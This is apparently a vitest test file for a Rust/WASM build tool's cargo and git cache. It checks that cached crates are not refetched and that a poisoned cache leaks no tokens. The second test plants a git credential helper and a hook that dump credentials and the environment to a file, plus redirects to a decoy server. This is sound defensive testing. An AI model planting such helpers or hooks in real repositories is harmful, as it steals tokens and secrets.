import { execFile, execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { glob, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { GIT_TOKEN } from '../../src/build/git-server.ts';
import { findRust } from '../../src/build/rust.ts';
import { findWorkspace } from '../../src/build/workspace.ts';
import { actionsCache } from '../../src/host/cache.ts';
import { terminalHost } from '../../src/host/terminal.ts';
import { type CargoToKeep, saveCargo } from '../../src/store/cargo.ts';
import { cargoCacheOf, type Warm, warmBuild, warmUp } from '../../src/warm.ts';
import { pathOfScripts } from '../act/run-act.ts';
import { root } from '../e2e/action.ts';
import { type Listening, listen } from '../standins/cloudflare/listen.ts';
import { type GitServer, gitServer } from '../standins/git/backend.ts';
import { type ResultsStandin, startResults } from '../standins/results/server.ts';
import { step } from '../standins/results/step.ts';

/**
 * Crates that are fetched with tokens, and cargo's cache, by the real cargo and the real cache client: what is in the cache is
 * not fetched again, and what somebody has written into it leads no token elsewhere.
 */
const here = step();
const TOKEN = 'let-me-in-12345';
const NAME = 'CARGO_REGISTRIES_PRIVATE_TOKEN';
const below = (name: string): string => path.join(here.folder(), name);
let crate: Buffer;
let registry: Listening;
let elsewhere: Listening;
let repositories: GitServer;
/** What the registry was asked for with the token; a server that none of this is of, for anything at all. */
const asked: string[] = [];
const strayed: string[] = [];

/** What the registry has at a path; undefined: nothing. */
function found(at: string): string | Buffer | undefined {
  if (at === '/index/config.json')
    return JSON.stringify({ dl: `${registry.url}/crates/{crate}-{version}.crate`, 'auth-required': true });
  if (at === '/crates/hidden-0.1.0.crate') return crate;
  const cksum = createHash('sha256').update(crate).digest('hex');
  const release = { name: 'hidden', vers: '0.1.0', deps: [], cksum, features: {}, yanked: false };
  return at === '/index/hi/dd/hidden' ? `${JSON.stringify(release)}\n` : undefined;
}

const manifest = (name: string): string => `[package]\nname = "${name}"\nversion = "0.1.0"\nedition = "2024"\n`;

/** Not at once: the servers are of this process. */
async function cargo(dir: string, ...args: readonly string[]): Promise<void> {
  const env = { ...process.env, PATH: await pathOfScripts(), CARGO_HOME: below('first'), [NAME]: TOKEN };
  await promisify(execFile)('cargo', args, { cwd: below(dir), env });
}

function git(dir: string, ...args: readonly string[]): string {
  const who = ['-c', 'user.name=t', '-c', 'user.email=t@example.com'];
  return execFileSync('git', ['-C', below(dir), ...who, ...args], { encoding: 'utf8' }).trim();
}

beforeAll(async () => {
  registry = await listen(async (request, response) => {
    const authorized = request.headers.authorization === TOKEN;
    if (authorized) asked.push(request.url ?? '');
    const content = authorized ? found(request.url ?? '') : undefined;
    response.statusCode = authorized ? (content === undefined ? 404 : 200) : 401;
    response.end(content);
  });
  elsewhere = await listen(async (request, response) => {
    strayed.push(`${request.url} ${request.headers.authorization}`);
    response.writeHead(404).end();
  });
});
afterAll(async () => {
  await registry?.close();
  await elsewhere?.close();
});

/** A crate with a dependency of each kind, as a repository has it. */
async function checkout(): Promise<void> {
  here.files({
    'hidden/Cargo.toml': manifest('hidden'),
    'hidden/src/lib.rs': 'pub fn hidden() -> u32 {\n    40\n}\n',
    'source/Cargo.toml': manifest('other'),
    'source/src/lib.rs': 'pub fn other() -> u32 {\n    2\n}\n',
    'repo/src/lib.rs':
      '#[unsafe(no_mangle)]\npub extern "C" fn answer() -> u32 {\n    hidden::hidden() + other::other()\n}\n',
    'repo/.cargo/config.toml': `[registry]\nglobal-credential-providers = ["cargo:token"]\n[registries.private]\nindex = "sparse+${registry.url}/index/"\n`,
  });
  git('source', 'init', '--quiet');
  git('source', 'add', '--all');
  git('source', 'commit', '--quiet', '--message', 'x');
  await mkdir(below('served'));
  git('.', 'clone', '--quiet', '--bare', 'source', 'served/other.git');
  repositories = await gitServer(below('served'), 'x-access-token', TOKEN);
  await cargo('hidden', 'package', '--no-verify', '--allow-dirty');
  crate = await readFile(below('hidden/target/package/hidden-0.1.0.crate'));
  const cksum = createHash('sha256').update(crate).digest('hex');
  const address = `${repositories.url}/other.git`;
  const entry = (name: string, source: string, more = ''): string =>
    `[[package]]\nname = "${name}"\nversion = "0.1.0"\nsource = "${source}"\n${more}\n`;
  here.files({
    'repo/Cargo.toml': `${manifest('tiny')}[lib]\ncrate-type = ["cdylib"]\n[dependencies]\nhidden = { version = "0.1.0", registry = "private" }\nother = { git = "${address}" }\n`,
    'repo/Cargo.lock': `version = 4\n\n${entry('hidden', `sparse+${registry.url}/index/`, `checksum = "${cksum}"\n`)}${entry('other', `git+${address}#${git('source', 'rev-parse', 'HEAD')}`)}[[package]]\nname = "tiny"\nversion = "0.1.0"\ndependencies = [\n "hidden",\n "other",\n]\n`,
  });
}

interface Ran {
  readonly warm: Warm;
  readonly compiled: number;
  readonly said: string;
  keep(change?: (wish: CargoToKeep) => CargoToKeep): Promise<void>;
}

let runs = 0;

/** A build on a machine on which nothing was before, as `make` does it, in a private repository. */
async function run(results: ResultsStandin, save: boolean): Promise<Ran> {
  for (const name of ['cargo', 'repo/target', 'work']) await rm(below(name), { recursive: true, force: true });
  asked.length = 0;
  repositories.asked.length = 0;
  const env = results.run({ runId: ++runs, ...(save ? {} : { ref: 'refs/pull/7/merge' }) });
  here.become(env);
  const dir = below('repo');
  const folders = { workspace: dir, tools: below('tools'), work: below('work'), action: root };
  const { CARGO_TARGET_DIR: _, ...inherited } = process.env;
  const tokens = { [NAME]: TOKEN, [GIT_TOKEN]: TOKEN };
  const machine = { ...inherited, PATH: await pathOfScripts(), HOME: below('home'), CARGO_HOME: below('cargo') };
  const said: string[] = [];
  const say = (text: string): void => void said.push(text);
  const real = terminalHost({ ...machine, ...tokens }, folders, new AbortController().signal);
  const log = { ...real.log, info: say, notice: say, warning: say, echo: say };
  const host = { ...real, log, cache: actionsCache(env, say, real.signal) };
  const target = 'wasm32-unknown-unknown';
  const rust = await findRust({ dir, target, channel: undefined }, host);
  const workspace = await findWorkspace(dir, rust, host);
  const wish = {
    ...({ dir, name: 'tiny', target, profile: 'release', features: [], workspace } as const),
    ...{ registryTokens: Object.keys(tokens), gitServer: repositories.url },
  };
  const cache = cargoCacheOf({ restore: !save, save, home: true }, below('cargo'));
  const { built, warm } = await warmBuild(await warmUp(wish, rust, cache, {}, host), rust, host);
  return {
    ...{ warm, compiled: built.dependencies.compiled, said: said.join('\n') },
    async keep(change = (same) => same) {
      if (warm.keep === undefined) throw new Error('there is nothing to keep');
      await saveCargo(change(warm.keep), host);
    },
  };
}

const ofRepositories = (): readonly string[] =>
  repositories.asked.filter(({ authorized }) => authorized).map((one) => one.path.split('?')[0] ?? '');

it('what the cache has of a registry is not asked for again; a git repository is fetched each time', async () => {
  await using results = await startResults();
  await checkout();
  const cold = await run(results, true);
  expect(asked).toContain('/crates/hidden-0.1.0.crate');
  expect([cold.warm.restored, cold.compiled, ofRepositories().length > 1]).toEqual([false, 2, true]);
  await cold.keep();
  const warm = await run(results, false);
  expect([warm.warm.restored, warm.compiled], warm.said).toEqual([true, 0]);
  expect(asked).toEqual(['/index/config.json']);
  expect(ofRepositories()).toContain('/other.git/git-upload-pack');
  await repositories.close();
});

it('what somebody has written into the cache leads no token elsewhere', async () => {
  await using results = await startResults();
  await checkout();
  const attacked = await run(results, true);
  for await (const file of glob(below('cargo/registry/index/*/config.json')))
    await writeFile(file, JSON.stringify({ dl: `${elsewhere.url}/{crate}`, 'auth-required': true }));
  for await (const file of glob(below('cargo/registry/cache/*/*.crate'))) await rm(file); // so that it has to be fetched
  const settings = `[credential]\n\thelper = "!cat >> ${below('stolen')}; env >> ${below('stolen')}"\n[url "${elsewhere.url}/"]\n\tinsteadOf = ${repositories.url}/\n`;
  for await (const folder of glob(below('cargo/git/db/*'))) {
    await writeFile(path.join(folder, 'config'), settings);
    const hook = `#!/bin/sh\nenv >> ${below('stolen')}\n`; // called at each fetch
    await mkdir(path.join(folder, 'hooks'), { recursive: true });
    await writeFile(path.join(folder, 'hooks', 'reference-transaction'), hook, { mode: 0o755 });
  }
  // as if no token had been there: then all of it is kept, and a token comes later
  await attacked.keep(({ what, ...wish }) => {
    if (what === undefined) throw new Error('there is nothing to keep');
    const { tokens: _, ...places } = what.places;
    return { ...wish, what: { ...what, places } };
  });
  const after = await run(results, false);
  expect(after.said).toContain('Cargo from the cache: ');
  expect(asked).toContain('/crates/hidden-0.1.0.crate');
  expect(ofRepositories()).toContain('/other.git/git-upload-pack');
  expect(strayed).toEqual([]);
  await expect(readFile(below('stolen'))).rejects.toThrow();
  await repositories.close();
});
